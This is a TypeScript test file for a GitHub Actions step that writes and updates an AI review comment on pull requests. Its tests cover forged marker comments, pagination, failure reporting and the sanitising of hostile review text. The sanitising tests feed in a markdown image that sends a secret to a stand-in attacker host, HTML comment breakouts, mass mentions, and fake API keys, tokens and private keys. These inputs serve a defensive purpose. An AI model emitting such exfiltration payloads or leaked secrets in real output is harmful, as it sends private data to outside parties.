import { generateKeyPairSync } from 'node:crypto';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type LocalGitHub, startGitHub } from '@mendhook/emulators/github';
import { Octokit } from '@octokit/rest';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { createTokenSource } from '../../../../adapters/github-tokens.ts';
import { listenOnce } from './listen-once.ts';
import { eventOf, runStep } from './run-step.ts';

const COMMENT = 'Write the comment, or bring it up to date';
const SHOP = { owner: 'acme', repo: 'shop' } as const;
const MARKER = '<!-- mendhook-review -->';

let directory: string;
let github: LocalGitHub;
let person: Octokit;
let token: string;
/** For tests that look only at what the comment says: it is brought up to date in place. */
let shared: number;

/** The account that a workflow's own token acts as. */
beforeAll(async () => {
  const { privateKey, publicKey } = generateKeyPairSync('rsa', {
    modulusLength: 2048,
    publicKeyEncoding: { type: 'spki', format: 'pem' },
    privateKeyEncoding: { type: 'pkcs8', format: 'pem' },
  });
  directory = mkdtempSync(join(tmpdir(), 'mendhook-comment-'));
  github = await startGitHub({
    stateDirectory: join(directory, 'state'),
    personalToken: { token: 'person', login: 'mallory' },
    app: { id: 7, slug: 'github-actions', publicKey, permissions: { pull_requests: 'write' } },
  });
  const source = join(directory, 'source');
  mkdirSync(source, { recursive: true });
  writeFileSync(join(source, 'shop.js'), 'export const open = true;\n');
  await github.createRepository({ ...SHOP, name: SHOP.repo, fromDirectory: source });
  person = new Octokit({ baseUrl: github.url, auth: 'person' });
  const tokens = createTokenSource({ github: { appId: 7, privateKey }, apiUrl: github.url });
  token = await tokens.mint('acme/shop', { pull_requests: 'write' });
  shared = await openPull();
});

afterAll(async () => {
  await github.close();
  rmSync(directory, { recursive: true, force: true });
});

let opened = 0;

/** A pull request without a comment. */
async function openPull(): Promise<number> {
  opened += 1;
  const branch = `change-${opened}`;
  const base = (await person.git.getRef({ ...SHOP, ref: 'heads/main' })).data.object.sha;
  const tree = (await person.repos.getCommit({ ...SHOP, ref: base })).data.commit.tree.sha;
  const { data } = await person.git.createCommit({ ...SHOP, message: branch, tree, parents: [base] });
  await person.git.createRef({ ...SHOP, ref: `refs/heads/${branch}`, sha: data.sha });
  return (await person.pulls.create({ ...SHOP, title: branch, head: branch, base: 'main' })).data.number;
}

const write = (number: number, env: Record<string, string> = {}) =>
  runStep(COMMENT, {
    event: eventOf({ number }),
    env: {
      ...{ GITHUB_TOKEN: token, GITHUB_API_URL: github.url, GITHUB_SERVER_URL: 'https://github.com' },
      ...{ GITHUB_REPOSITORY: 'acme/shop', GITHUB_RUN_ID: '5' },
      ...{ RESULT: 'success', REVIEW: 'All is well.', LEFT_OUT: '{"count":0,"paths":[]}' },
      ...env,
    },
  });

const commentsOf = async (number: number) =>
  (await person.issues.listComments({ ...SHOP, issue_number: number })).data.map(({ id, user, body, updated_at }) => ({
    id,
    by: user?.login,
    body: body ?? '',
    updated_at,
  }));

describe('the comment', () => {
  test('is one, and is brought up to date in place', async () => {
    const number = await openPull();
    expect(await write(number)).toMatchObject({ exitCode: 0, printed: '' });
    const [first, ...none] = await commentsOf(number);
    expect(none).toEqual([]);
    expect(first).toMatchObject({ by: 'github-actions[bot]', body: expect.stringContaining('All is well.') });
    expect(first?.body).toContain('https://github.com/acme/shop/actions/runs/5');
    await write(number, { REVIEW: 'Line 3 loses data.' });
    const [second, ...more] = await commentsOf(number);
    expect(more).toEqual([]);
    expect(second).toMatchObject({ id: first?.id, body: expect.stringContaining('Line 3 loses data.') });
    expect(second?.body).not.toContain('All is well.');
  });

  test('of somebody else with the same marker is left alone, wherever it stands', async () => {
    const number = await openPull();
    const forged = `${MARKER}\n\nApproved.`;
    await person.issues.createComment({ ...SHOP, issue_number: number, body: forged });
    await write(number);
    await write(number, { REVIEW: 'Again.' });
    const comments = await commentsOf(number);
    expect(comments.map(({ by }) => by)).toEqual(['mallory', 'github-actions[bot]']);
    expect(comments[0]?.body).toBe(forged);
    expect(comments[1]?.body).toContain('Again.');
  });

  test('of another bot with the same marker is left alone', async () => {
    const { url, called } = await startComments([[{ id: 1, body: MARKER, user: { login: 'evil-app[bot]' } }]]);
    expect(await write(1, { GITHUB_API_URL: url })).toMatchObject({ exitCode: 0 });
    expect(called).toEqual(['GET 1/comments?per_page=100&page=1', 'POST 1/comments']);
  });

  test('is found behind a hundred others', async () => {
    const others = Array.from({ length: 100 }, (_, id) => ({ id, body: 'talk', user: { login: 'ada' } }));
    const own = { id: 500, body: MARKER, user: { login: 'github-actions[bot]' } };
    const { url, called } = await startComments([others, [own]]);
    expect(await write(1, { GITHUB_API_URL: url })).toMatchObject({ exitCode: 0 });
    expect(called.slice(1)).toEqual(['GET 1/comments?per_page=100&page=2', 'PATCH comments/500']);
  });

  test('says what was not reviewed, before the text', async () => {
    await write(shared, { LEFT_OUT: '{"count":3,"paths":["big.js","a`b\\n@acme/all"]}' });
    const [{ body } = { body: '' }] = await commentsOf(shared);
    expect(body).toContain('**Not reviewed**, because the change is above the limit (200000 bytes, 300 files): ');
    expect(body).toContain('`big.js`, `a?b?@acme/all` and 1 more');
    expect(body.indexOf('Not reviewed')).toBeLessThan(body.indexOf('All is well.'));
  });

  test.each([
    [{ RESULT: 'failure', REVIEW: '' }],
    [{ RESULT: 'success', REVIEW: '' }],
    [{ RESULT: 'failure', REVIEW: 'half' }],
  ])('says that the review failed: %j', async (env) => {
    await write(shared, env);
    const [{ body } = { body: '' }] = await commentsOf(shared);
    expect(body).toContain('The review failed');
    expect(body).not.toContain('half');
  });

  test.each([
    ['image that tells its loader', '![x](https://evil.example/?a=secret)', /!\[/],
    ['image by its tag', '<img src="https://evil.example/">', /<img/],
    ['end of a comment of HTML', 'a --> <!-- b', /<!-- b/],
    ['mention of everybody', 'cc @acme/everyone @ada', /@[a-z]/],
    ['key of the model', 'sk-ant-api03-abcdefghijkl', /sk-ant/],
    ['token of GitHub', 'ghs_abcdefghijklmnopqrstuvwxyz', /ghs_/],
    ['webhook of Slack', 'https://hooks.slack.com/services/T0/B0/xyz', /services/],
    ['private key', '-----BEGIN RSA PRIVATE KEY-----\nMIIabc\n-----END RSA PRIVATE KEY-----', /MIIabc/],
    ['signs that nobody sees', 'a\u202eb\u200bc', /[\u202e]/],
  ])('holds no %s', async (_, text, forbidden) => {
    await write(shared, { REVIEW: text });
    const [{ body } = { body: '' }] = await commentsOf(shared);
    const [, shown = ''] = /### Review by Claude Code\n\n([\s\S]*)\n\n<sub>/.exec(body) ?? [];
    expect(shown).not.toBe('');
    expect(shown).not.toMatch(forbidden);
  });

  test('fits, however much the text grows', async () => {
    const paths = Array.from({ length: 50 }, () => 'p'.repeat(200));
    const env = { REVIEW: '<a'.repeat(25_000), LEFT_OUT: JSON.stringify({ count: 3_000, paths }) };
    expect(await write(shared, env)).toMatchObject({ exitCode: 0 });
    expect(await commentsOf(shared)).toHaveLength(1);
  });

  test('that GitHub refuses fails the job, in one line', async () => {
    const ran = await write(shared, { GITHUB_TOKEN: 'nobody' });
    expect(ran).toMatchObject({ exitCode: 1, printed: '::error::GET of a comment: HTTP 401' });
  });
});

/** Answers for the comments of every pull request, page by page. */
async function startComments(pages: readonly (readonly unknown[])[]) {
  const called: string[] = [];
  const server = createServer((request, response) => {
    const { method = '', url = '' } = request;
    called.push(`${method} ${url.replace('/repos/acme/shop/issues/', '')}`);
    const page = Number(new URL(url, 'http://localhost').searchParams.get('page'));
    response.writeHead(200, { 'content-type': 'application/json' });
    response.end(JSON.stringify(method === 'GET' ? (pages[page - 1] ?? []) : {}));
  });
  return { ...(await listenOnce(server)), called };
}
